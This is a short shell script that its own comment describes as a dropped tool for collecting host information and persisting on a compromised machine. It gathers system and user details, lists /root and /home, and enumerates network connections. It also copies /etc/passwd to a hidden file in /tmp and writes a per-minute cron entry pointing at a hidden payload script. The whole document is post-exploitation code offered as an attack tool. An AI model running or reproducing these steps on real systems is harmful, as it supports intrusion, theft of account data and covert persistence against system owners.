#!/bin/sh
# dropped tool: collects host info and tries to persist
hostname; id; cat /proc/version
ls -la /root /home 2>&1
netstat -tan 2>/dev/null || ss -tan
echo '* * * * * /tmp/.x/payload.sh' > /tmp/.cron_evil 2>/dev/null
cp /etc/passwd /tmp/.x_passwd
echo payload-done
